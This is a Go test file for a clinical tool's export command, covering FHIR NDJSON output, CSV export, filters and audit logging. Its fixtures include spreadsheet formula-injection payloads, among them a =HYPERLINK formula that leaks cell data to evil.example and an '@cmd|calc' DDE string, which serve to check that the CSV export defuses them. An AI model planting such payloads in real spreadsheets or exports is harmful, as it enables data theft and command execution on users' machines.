package clinical_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/airlockhq/airlock/clinical"
	"github.com/airlockhq/airlock/shared/cli"
	"github.com/airlockhq/airlock/shared/cli/clitest"
	"github.com/airlockhq/airlock/shared/forms"
)

// storedSubmission is one stage-2 submission inserted for an export test.
type storedSubmission struct {
	id         int64
	intakeID   string
	receipt    string
	formID     string
	receivedAt time.Time
}

var exportDay0 = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)

// insertSubmission stores a submission as transfer would (carried answers
// only), written by the owner since the app may not insert.
func (d *clinicalDB) insertSubmission(t *testing.T, n int, formID, formVersion string, raw map[string]any, receivedAt time.Time) storedSubmission {
	t.Helper()
	q, ok := forms.Builtin().Get(formID)
	if !ok {
		t.Fatalf("no form %s", formID)
	}
	enc := map[string]json.RawMessage{}
	for k, v := range raw {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		enc[k] = b
	}
	a, ferrs := q.Validate(enc)
	if len(ferrs) > 0 {
		t.Fatalf("answers invalid: %v", ferrs)
	}
	answers, err := json.Marshal(q.Carried(a))
	if err != nil {
		t.Fatal(err)
	}
	s := storedSubmission{
		intakeID:   "00000000-0000-4000-8000-" + strings.Repeat("0", 12-len(strconv.Itoa(n))) + strconv.Itoa(n),
		receipt:    "RCPT-" + strconv.Itoa(n) + "-ABCD-EFGH",
		formID:     formID,
		receivedAt: receivedAt,
	}
	err = d.owner.QueryRow(context.Background(), `INSERT INTO submissions
  (intake_id, succession, receipt, form_id, form_version, key_id, submitted_at, received_at, answers)
VALUES ($1::uuid, $2, $3, $4, $5, '0123456789abcdef', $6, $7, $8) RETURNING id`,
		s.intakeID, n, s.receipt, formID, formVersion, receivedAt.Add(-time.Second), receivedAt, answers).Scan(&s.id)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

var patientAnswers = map[string]any{
	"family-name":      `=HYPERLINK("https://evil.example/?"&A1,"click")`,
	"given-name":       "@SUM(1+1)",
	"birth-date":       "1990-05-17",
	"sex-at-birth":     "female",
	"insurance-number": "+41 123",
	"insurer":          "Plain Insurer",
	"medications":      "-2+3 tablets",
	"allergies":        true,
	"allergy-details":  "Peanuts",
	"smoker":           "former",
	"alcohol-units":    4,
	"height":           165.5,
	"consent":          true,
}

var complaintAnswers = map[string]any{
	"complaint":   "Headache for three days",
	"severity":    "24484000",
	"fever":       true,
	"temperature": 38.5,
	"heard-about": "Social media",
}

// exportFixture is a clinical database with three submissions on two forms
// received on three days.
type exportFixture struct {
	*clinicalDB
	env      map[string]string
	secret   clinical.SecretKey
	patient  storedSubmission // new-patient, day 0
	symptoms storedSubmission // symptoms, day 1
	later    storedSubmission // new-patient, day 2
}

func newExportFixture(t *testing.T) *exportFixture {
	t.Helper()
	f := &exportFixture{clinicalDB: newClinicalDB(t), secret: newSecretKey(t)}
	f.env = f.clinicalDB.env(f.secret)
	f.patient = f.insertSubmission(t, 1, "new-patient", "1", patientAnswers, exportDay0)
	f.symptoms = f.insertSubmission(t, 2, "symptoms", "1", complaintAnswers, exportDay0.Add(24*time.Hour))
	f.later = f.insertSubmission(t, 3, "new-patient", "1", map[string]any{
		"family-name": "Later", "given-name": "Lee", "birth-date": "2001-01-01", "sex-at-birth": "male", "allergies": false, "consent": true,
	}, exportDay0.Add(48*time.Hour))
	return f
}

// exportNDJSON runs `clinical export --format ndjson` and decodes each line.
func (f *exportFixture) exportNDJSON(t *testing.T, args ...string) []map[string]any {
	t.Helper()
	stdout, stderr, err := runClinical(t, f.env, append([]string{"export", "--format", "ndjson"}, args...)...)
	if err != nil {
		t.Fatalf("export: %v\n%s", err, stderr)
	}
	var out []map[string]any
	for line := range strings.SplitSeq(strings.TrimSuffix(stdout, "\n"), "\n") {
		if line == "" {
			continue
		}
		var r map[string]any
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("line %q is not JSON: %v", line, err)
		}
		out = append(out, r)
	}
	return out
}

// item finds the response item with linkId in a decoded item list.
func responseItem(items any, linkID string) map[string]any {
	list, _ := items.([]any)
	for _, it := range list {
		if m, _ := it.(map[string]any); m["linkId"] == linkID {
			return m
		}
	}
	return nil
}

func itemLinkIDs(items any) []string {
	var ids []string
	list, _ := items.([]any)
	for _, it := range list {
		m, _ := it.(map[string]any)
		ids = append(ids, m["linkId"].(string))
	}
	return ids
}

// answer is the single answer of a response item, as decoded JSON.
func soleAnswer(it map[string]any) map[string]any {
	list, _ := it["answer"].([]any)
	if len(list) != 1 {
		return nil
	}
	a, _ := list[0].(map[string]any)
	return a
}

func TestExportNDJSONIsFHIRQuestionnaireResponses(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	lines := f.exportNDJSON(t)
	if len(lines) != 3 {
		t.Fatalf("%d lines, want 3", len(lines))
	}
	r := lines[0]
	for key, want := range map[string]any{
		"resourceType":  "QuestionnaireResponse",
		"id":            f.patient.intakeID,
		"status":        "completed",
		"questionnaire": "https://airlock.dev/fhir/Questionnaire/new-patient|1",
		"authored":      exportDay0.Add(-time.Second).Format(time.RFC3339),
	} {
		if r[key] != want {
			t.Errorf("%s = %v, want %v", key, r[key], want)
		}
	}
	if id, _ := r["identifier"].(map[string]any); id["system"] != clinical.ReceiptSystem || id["value"] != f.patient.receipt {
		t.Errorf("identifier %v, want the receipt under %s", r["identifier"], clinical.ReceiptSystem)
	}

	// Items nest as the form's groups do; display items and unanswered
	// groups do not appear.
	if got := itemLinkIDs(r["item"]); !slices.Equal(got, []string{"patient", "insurance", "history"}) {
		t.Errorf("top-level items %v, want the three answered groups", got)
	}
	patient := responseItem(r["item"], "patient")
	if patient == nil || patient["answer"] != nil {
		t.Fatalf("patient group %v", patient)
	}
	if got := itemLinkIDs(patient["item"]); !slices.Equal(got, []string{"family-name", "given-name", "birth-date", "sex-at-birth"}) {
		t.Errorf("patient group holds %v", got)
	}
	history := responseItem(r["item"], "history")
	typed := []struct {
		group  map[string]any
		linkID string
		want   map[string]any
	}{
		{patient, "family-name", map[string]any{"valueString": patientAnswers["family-name"]}},
		{patient, "birth-date", map[string]any{"valueDate": "1990-05-17"}},
		{patient, "sex-at-birth", map[string]any{"valueCoding": map[string]any{
			"system": "http://hl7.org/fhir/administrative-gender", "code": "female", "display": "Female"}}},
		{history, "allergies", map[string]any{"valueBoolean": true}},
		{history, "alcohol-units", map[string]any{"valueInteger": 4.0}},
		{history, "height", map[string]any{"valueDecimal": 165.5}},
	}
	for _, c := range typed {
		got := soleAnswer(responseItem(c.group["item"], c.linkID))
		if string(jsonOf(t, got)) != string(jsonOf(t, c.want)) {
			t.Errorf("%s answer %v, want %v", c.linkID, got, c.want)
		}
	}
	for _, line := range lines {
		b := string(jsonOf(t, line))
		if strings.Contains(b, `"consent"`) || strings.Contains(b, `"heard-about"`) || strings.Contains(b, "Social media") {
			t.Errorf("export carries an item the form does not carry: %s", b)
		}
	}

	// A form without groups exports flat.
	s := lines[1]
	if got := itemLinkIDs(s["item"]); !slices.Equal(got, []string{"complaint", "severity", "fever", "temperature"}) {
		t.Errorf("symptoms items %v", got)
	}
	if got := soleAnswer(responseItem(s["item"], "temperature")); got["valueDecimal"] != 38.5 {
		t.Errorf("temperature answer %v", got)
	}
}

func TestExportFilters(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	cases := []struct {
		name string
		args []string
		want []storedSubmission
	}{
		{"everything", nil, []storedSubmission{f.patient, f.symptoms, f.later}},
		{"one form", []string{"--form", "new-patient"}, []storedSubmission{f.patient, f.later}},
		{"other form", []string{"--form", "symptoms"}, []storedSubmission{f.symptoms}},
		{"since, inclusive", []string{"--since", f.symptoms.receivedAt.Format(time.RFC3339)}, []storedSubmission{f.symptoms, f.later}},
		{"since, with a zone offset", []string{"--since", f.symptoms.receivedAt.Add(time.Second).In(time.FixedZone("", 2*3600)).Format(time.RFC3339)}, []storedSubmission{f.later}},
		{"form and since", []string{"--form", "new-patient", "--since", f.symptoms.receivedAt.Format(time.RFC3339)}, []storedSubmission{f.later}},
		{"nothing matches", []string{"--since", "2030-01-01T00:00:00Z"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			lines := f.exportNDJSON(t, c.args...)
			var got, want []string
			for _, l := range lines {
				got = append(got, l["id"].(string))
			}
			for _, s := range c.want {
				want = append(want, s.intakeID)
			}
			if !slices.Equal(got, want) {
				t.Errorf("exported %v, want %v", got, want)
			}
			// The audit entry of this export (the newest) counts what it wrote.
			var detail string
			if err := f.owner.QueryRow(context.Background(),
				`SELECT detail FROM audit_log WHERE action = 'export' ORDER BY id DESC LIMIT 1`).Scan(&detail); err != nil {
				t.Fatal(err)
			}
			var d map[string]any
			if err := json.Unmarshal([]byte(detail), &d); err != nil {
				t.Fatal(err)
			}
			if d["count"] != float64(len(c.want)) {
				t.Errorf("audit detail %s, want count %d", detail, len(c.want))
			}
		})
	}
}

func TestExportCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	// Receipt and form version come from the sealed payload and the intake
	// row: a compromised intake host holding the row key chooses them.
	f.insertSubmission(t, 4, "symptoms", "=1+2", complaintAnswers, exportDay0.Add(72*time.Hour))
	f.exec(t, `UPDATE submissions SET receipt = '@cmd|calc' WHERE succession = 4`)

	stdout, stderr, err := runClinical(t, f.env, "export", "--format", "csv", "--form", "new-patient")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, stderr)
	}
	records, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, stdout)
	}
	wantHeader := []string{"id", "receipt", "form", "form_version", "submitted_at", "received_at", "status",
		"family-name", "given-name", "birth-date", "sex-at-birth", "email", "phone", "address",
		"insurance-number", "insurer", "medications", "allergies", "allergy-details", "smoker",
		"alcohol-units", "height"}
	if len(records) != 3 || !slices.Equal(records[0], wantHeader) {
		t.Fatalf("%d records, header %q; want 3 records and header %q", len(records), records[0], wantHeader)
	}
	row := map[string]string{}
	for i, col := range records[0] {
		row[col] = records[1][i]
	}
	for col, want := range map[string]string{
		"id":               f.patient.intakeID, // as in the URL and the FHIR export
		"receipt":          f.patient.receipt,
		"form":             "new-patient",
		"received_at":      exportDay0.Format(time.RFC3339),
		"status":           "new",
		"family-name":      `'` + patientAnswers["family-name"].(string),
		"given-name":       "'@SUM(1+1)",
		"insurance-number": "'+41 123",
		"medications":      "'-2+3 tablets",
		"insurer":          "Plain Insurer",
		"sex-at-birth":     "Female",
		"allergies":        "yes",
		"alcohol-units":    "4",
		"height":           "165.5",
		"email":            "",
	} {
		if row[col] != want {
			t.Errorf("column %s = %q, want %q", col, row[col], want)
		}
	}

	// Across forms, every known form's carried questions are columns, and
	// no cell of any column starts like a formula.
	stdout, _, err = runClinical(t, f.env, "export", "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	records, err = csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 5 || !slices.Contains(records[0], "complaint") || slices.Contains(records[0], "consent") || slices.Contains(records[0], "heard-about") {
		t.Fatalf("all-forms export: %d records, header %q", len(records), records[0])
	}
	for _, rec := range records[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s holds %q, which a spreadsheet runs as a formula", records[0][i], cell)
			}
		}
	}
}

func TestEveryExportIsAuditedWithCountsOnly(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := newExportFixture(t)
	runs := [][]string{
		{"export", "--format", "ndjson"},
		{"export", "--format", "csv", "--form", "symptoms"},
		{"export", "--format", "ndjson", "--since", "2030-01-01T00:00:00Z"},
	}
	for _, args := range runs {
		if _, stderr, err := runClinical(t, f.env, args...); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, stderr)
		}
	}
	rows, err := f.owner.Query(ctx, `SELECT actor, action, target, detail FROM audit_log ORDER BY id`)
	if err != nil {
		t.Fatal(err)
	}
	type entry struct{ actor, action, target, detail string }
	var entries []entry
	for rows.Next() {
		var e entry
		if err := rows.Scan(&e.actor, &e.action, &e.target, &e.detail); err != nil {
			t.Fatal(err)
		}
		entries = append(entries, e)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	if len(entries) != len(runs) {
		t.Fatalf("%d audit entries for %d exports", len(entries), len(runs))
	}
	wantDetail := []map[string]any{
		{"format": "ndjson", "count": 3.0, "max_id": float64(f.later.id)},
		{"format": "csv", "count": 1.0, "max_id": float64(f.symptoms.id), "form": "symptoms"},
		{"format": "ndjson", "count": 0.0, "max_id": 0.0, "since": "2030-01-01T00:00:00Z"},
	}
	for i, e := range entries {
		if e.action != "export" || !strings.HasPrefix(e.actor, "cli") {
			t.Errorf("entry %d: actor %q action %q", i, e.actor, e.action)
		}
		var d map[string]any
		if err := json.Unmarshal([]byte(e.detail), &d); err != nil {
			t.Fatalf("entry %d detail %q: %v", i, e.detail, err)
		}
		if string(jsonOf(t, d)) != string(jsonOf(t, wantDetail[i])) {
			t.Errorf("entry %d detail %s, want %s", i, jsonOf(t, d), jsonOf(t, wantDetail[i]))
		}
		for _, secret := range []string{f.patient.receipt, f.symptoms.receipt, f.patient.intakeID, "Headache", "Peanuts", "HYPERLINK"} {
			if strings.Contains(e.actor+e.target+e.detail, secret) {
				t.Errorf("entry %d holds content %q", i, secret)
			}
		}
	}
	if _, err := clinical.NewAudit(f.app, f.secret).Verify(ctx); err != nil {
		t.Errorf("the chain is broken after exports: %v", err)
	}
}

func TestExportUsageErrors(t *testing.T) {
	t.Parallel()
	d := newClinicalDB(t)
	env := d.env(newSecretKey(t))
	cases := []struct {
		name   string
		args   []string
		naming string
	}{
		{"xml", []string{"export", "--format", "xml"}, "--format"},
		{"no format", []string{"export"}, "--format"},
		{"since not RFC 3339", []string{"export", "--format", "csv", "--since", "yesterday"}, "--since"},
		{"since without a zone", []string{"export", "--format", "csv", "--since", "2026-01-31T00:00:00"}, "--since"},
		{"unknown form", []string{"export", "--format", "csv", "--form", "no-such-form"}, "--form"},
		{"unknown flag", []string{"export", "--format", "csv", "--everything"}, "everything"},
		{"stray argument", []string{"export", "--format", "csv", "extra"}, "extra"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			stdout, _, err := runClinical(t, env, c.args...)
			if code := cli.ExitCode(err); code != 2 {
				t.Fatalf("exit %d (%v), want 2", code, err)
			}
			if msg := err.Error(); !strings.Contains(msg, c.naming) || strings.Contains(msg, "\n") {
				t.Errorf("message %q is not one line naming %s", msg, c.naming)
			}
			if stdout != "" {
				t.Errorf("printed %q", stdout)
			}
		})
	}
	if n := d.count(t, `SELECT count(*) FROM audit_log`); n != 0 {
		t.Errorf("refused exports wrote %d audit entries", n)
	}
}

func jsonOf(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// Only current data by default: a superseded submission (transfer marks it
// when a correction arrives) is left out unless --include-superseded, which
// marks it: FHIR status "amended", and a superseded_by column in CSV.
func TestExportLeavesOutSupersededUnlessAsked(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := newExportFixture(t)
	f.exec(t, `UPDATE submissions SET superseded_by = $1, superseded_at = now() WHERE id = $2`, f.later.id, f.patient.id)

	ids := func(lines []map[string]any) (out []string) {
		for _, l := range lines {
			out = append(out, l["id"].(string)+"="+l["status"].(string))
		}
		return out
	}
	if got, want := ids(f.exportNDJSON(t)), []string{f.symptoms.intakeID + "=completed", f.later.intakeID + "=completed"}; !slices.Equal(got, want) {
		t.Errorf("default NDJSON export: %v, want %v", got, want)
	}
	got := ids(f.exportNDJSON(t, "--include-superseded"))
	want := []string{f.patient.intakeID + "=amended", f.symptoms.intakeID + "=completed", f.later.intakeID + "=completed"}
	if !slices.Equal(got, want) {
		t.Errorf("NDJSON export with superseded: %v, want %v", got, want)
	}

	csvOf := func(args ...string) [][]string {
		t.Helper()
		stdout, stderr, err := runClinical(t, f.env, append([]string{"export", "--format", "csv", "--form", "new-patient"}, args...)...)
		if err != nil {
			t.Fatalf("export: %v\n%s", err, stderr)
		}
		records, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return records
	}
	records := csvOf()
	if len(records) != 2 || slices.Contains(records[0], "superseded_by") || records[1][0] != f.later.intakeID {
		t.Errorf("default CSV export: %q, want the header and the later row only", records)
	}
	records = csvOf("--include-superseded")
	if len(records) != 3 || !slices.Equal(records[0][:8], []string{"id", "receipt", "form", "form_version", "submitted_at", "received_at", "status", "superseded_by"}) {
		t.Fatalf("CSV export with superseded: %q", records)
	}
	for _, rec := range records[1:] {
		want := ""
		if rec[0] == f.patient.intakeID {
			want = f.later.intakeID
		}
		if rec[7] != want {
			t.Errorf("row %s: superseded_by %q, want %q", rec[0], rec[7], want)
		}
	}

	// The audit entries say which kind of export each was.
	rows, err := f.owner.Query(ctx, `SELECT detail FROM audit_log WHERE action = 'export' ORDER BY id`)
	if err != nil {
		t.Fatal(err)
	}
	var flags []bool
	for rows.Next() {
		var detail string
		var d map[string]any
		if err := rows.Scan(&detail); err != nil || json.Unmarshal([]byte(detail), &d) != nil {
			t.Fatalf("detail %q: %v", detail, err)
		}
		flags = append(flags, d["include_superseded"] == true)
	}
	if !slices.Equal(flags, []bool{false, true, false, true}) {
		t.Errorf("include_superseded in the audit details: %v", flags)
	}
	help, _, _ := runClinical(t, f.env, "--help")
	if !strings.Contains(help, "--include-superseded") {
		t.Errorf("--help does not show --include-superseded")
	}
}

// `clinical export` shows rows written on a terminal; its output is the
// same either way.
func TestExportShowsProgressOnATerminal(t *testing.T) {
	t.Parallel()
	f := newExportFixture(t)
	master, slave := clitest.OpenPTY(t)
	var out bytes.Buffer
	err := clinical.Run(context.Background(), cli.Env{Args: []string{"export", "--format", "ndjson"},
		Getenv: func(k string) string { return f.env[k] }, Stdin: bytes.NewReader(nil), Stdout: &out, Stderr: slave})
	if err != nil {
		t.Fatal(err)
	}
	clitest.ReadUntil(t, master, "clinical export: 3 rows written")
	if n := strings.Count(out.String(), "\n"); n != 3 {
		t.Errorf("export wrote %d lines, want 3", n)
	}
}
